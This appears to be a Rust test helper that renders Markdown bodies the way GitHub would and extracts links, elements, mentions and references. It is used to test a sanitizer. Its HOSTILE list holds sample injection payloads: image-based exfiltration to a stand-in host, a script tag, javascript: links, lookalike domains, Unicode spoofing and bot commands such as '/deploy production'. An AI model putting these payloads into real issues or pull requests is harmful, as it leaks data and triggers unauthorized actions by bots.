//! What a reader of GitHub sees of a body: rendered by an implementation of its Markdown, and read by a tokenizer of HTML. For tests.

use comrak::Options;
use html5gum::{Token, Tokenizer};

/// What somebody would like GitHub, a bot or a reader's browser to act on.
pub(super) const HOSTILE: [&str; 24] = [
    "![status](https://evil.example/p.png?d=QUtJQUlP)",
    "<img src=\"https://evil.example/x?y=1\" width=1 height=1>",
    "See [the docs](https://evil.example/?log=BASE64 \"title\") for details",
    "www.evil.example/steal?d=1 or audit@evil.example",
    "https://github.com.evil.example/org/repo https://github.com@evil.example/ https://g\u{456}thub.com/org",
    "[r]: https://evil.example/r 'title'\n![x][r] [r] [^1]\n\n[^1]: https://evil.example",
    "$\\style{background:url(https://evil.example/a)}x$ and $$\\href{https://evil.example}{x}$$ $`\\href{https://evil.example}`$",
    "```mermaid\ngraph TD; A-->B; click A \"https://evil.example\"\n```\n````\n~~~geojson\n{}\n~~~",
    "cc @org/everyone @alice @bob @security-team please look",
    "Fixes #1, closes GH-2, resolves acme/shop#3 and https://github.com/acme/shop/issues/4",
    "/deploy production\n/retest\n@dependabot merge\n/gcbrun\nbors r+\nretest this please",
    "refs abcdef1234567890abcdef1234567890abcdef12 other/repo@deadbeef deadbee",
    "</details></blockquote><script>alert(1)</script><!-- lambda-medic:stolen -->",
    "<details><summary>x</summary>\n\n# heading\n\n> [!CAUTION]\n> a | b\n| - | - |\n| c | d |",
    "`a` ``b`` ```c``` `https://evil.example` `@alice` `",
    "\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7} \u{202e}gro.live\u{202c} \u{200b}@\u{200b}alice \u{e0041}",
    "**@alice** _#12_ ~~x~~ \\@bob \\<b> &lt;b&gt; &#64;alice",
    "<https://evil.example> <mailto:a@evil.example> //evil.example javascript:alert(1) mailto:a@evil.example xmpp:a@evil.example",
    "::error::x\n##[error]y\n- [ ] task\n1. one\n---\n===\n    indented",
    "fixes\u{a0}#1 \u{ff20}alice @@alice (@alice) '@alice' @alice's @-x",
    "[a](<https://evil.example>) [b]( https://evil.example ) ![c](data:text/html;base64,PGI+) [d](#x)",
    "a\rb\u{85}/deploy\u{2028}@alice\u{2029}#1\u{c}/x",
    "|--|\n|`|`|\n>>> quote\n<!--\n/deploy\n-->",
    ":tada: @alice@evil.example http://a.b:80@evil.example HTTPS://EVIL.EXAMPLE hxxps://evil.example",
];

/// A rendered body.
#[derive(Clone, Debug, Default, Eq, PartialEq)]
pub(super) struct Rendered {
    /// The addresses of links and whatever else loads.
    pub(super) addresses: Vec<String>,
    /// The elements, each once.
    pub(super) elements: Vec<String>,
    /// The text outside of code, where GitHub looks for mentions and references.
    pub(super) prose: Vec<String>,
    /// The text inside of code.
    pub(super) code: Vec<String>,
    /// The languages of blocks of code.
    pub(super) languages: Vec<String>,
}

impl Rendered {
    pub(super) fn of_markdown(markdown: &str) -> Self {
        let mut options = Options::default();
        let extension = &mut options.extension;
        extension.autolink = true;
        extension.footnotes = true;
        extension.inline_footnotes = true;
        extension.math_dollars = true;
        extension.math_code = true;
        extension.strikethrough = true;
        extension.table = true;
        extension.tasklist = true;
        extension.alerts = true;
        options.parse.relaxed_autolinks = true;
        // So that raw HTML shows here, though GitHub would filter some of it.
        options.render.r#unsafe = true;
        options.render.github_pre_lang = true;
        Self::of_html(&comrak::markdown_to_html(markdown, &options))
    }

    pub(super) fn of_html(html: &str) -> Self {
        let mut rendered = Self::default();
        let mut code = 0_usize;
        for token in Tokenizer::new(html) {
            let Ok(token) = token;
            match token {
                Token::StartTag(tag) => {
                    let name = String::from_utf8_lossy(&tag.name).into_owned();
                    code += usize::from(matches!(name.as_str(), "code" | "pre" | "style"));
                    for (attribute, value) in &tag.attributes {
                        let value = String::from_utf8_lossy(value).into_owned();
                        match attribute.as_slice() {
                            b"href" | b"src" | b"action" | b"srcset" | b"data" | b"background"
                            | b"poster" | b"title" => {
                                rendered.addresses.push(value);
                            }
                            b"lang" => rendered.languages.push(value),
                            _ => {}
                        }
                    }
                    if !rendered.elements.contains(&name) {
                        rendered.elements.push(name);
                    }
                }
                Token::EndTag(tag) => {
                    let is_code = matches!(tag.name.as_slice(), b"code" | b"pre" | b"style");
                    code = code.saturating_sub(usize::from(is_code));
                }
                Token::String(text) => {
                    let text = String::from_utf8_lossy(&text).into_owned();
                    let place = if code > 0 {
                        &mut rendered.code
                    } else {
                        &mut rendered.prose
                    };
                    place.push(text);
                }
                Token::Comment(text) => rendered
                    .elements
                    .push(format!("<!--{}-->", String::from_utf8_lossy(&text))),
                _ => {}
            }
        }
        rendered
    }

    /// What GitHub would make more of than text: mentions, references, commits.
    pub(super) fn triggers(&self) -> Vec<String> {
        self.prose.iter().flat_map(|text| triggers(text)).collect()
    }
}

/// What GitHub would make more of in a text than text.
pub(super) fn triggers(text: &str) -> Vec<String> {
    let is_name = |c: char| c.is_ascii_alphanumeric() || c == '_';
    let mut found = Vec::new();
    for (index, c) in text.char_indices() {
        let (head, rest) = text.split_at(index);
        let (_, after) = rest.split_at(c.len_utf8());
        let is_inside = head.chars().next_back().is_some_and(is_name);
        let is_mention = c == '@' && !is_inside && after.starts_with(is_name);
        let is_reference = c == '#' && after.starts_with(|c: char| c.is_ascii_digit());
        let issue = rest
            .strip_prefix("GH-")
            .or_else(|| rest.strip_prefix("gh-"));
        let is_issue =
            !is_inside && issue.is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_digit()));
        if is_mention || is_reference || is_issue {
            found.push(rest.chars().take(20).collect());
        }
    }
    let words = text.split(|c: char| !c.is_ascii_alphanumeric());
    let is_commit = |word: &&str| {
        word.len() >= 7
            && word.bytes().all(|b| b.is_ascii_hexdigit())
            && (word.len() >= 40 || word.bytes().any(|b| b.is_ascii_alphabetic()))
    };
    found.extend(words.filter(is_commit).map(str::to_owned));
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_the_tests_look_for_is_found_where_it_is() {
        let markdown = "@alice #1 GH-2 abcdef1 `@bob` https://evil.example www.evil.example a@evil.example ![i](//e) <img src=x>\n\n\
                        [r]\n\n[r]: https://evil.example 'title'\n\n```mermaid\n@carol\n```\n";
        let rendered = Rendered::of_markdown(markdown);
        assert_eq!(
            rendered.triggers(),
            [
                "@alice #1 GH-2 abcde",
                "#1 GH-2 abcdef1 ",
                "GH-2 abcdef1 ",
                "abcdef1"
            ]
        );
        assert_eq!(
            rendered.addresses,
            [
                "https://evil.example",
                "http://www.evil.example",
                "mailto:a@evil.example",
                "//e",
                "x",
                "https://evil.example",
                "title"
            ]
        );
        assert_eq!(rendered.elements, ["p", "code", "a", "img", "pre"]);
        assert_eq!(rendered.code, ["@bob", "@carol\n"]);
        assert_eq!(rendered.languages, ["mermaid"]);
    }
}
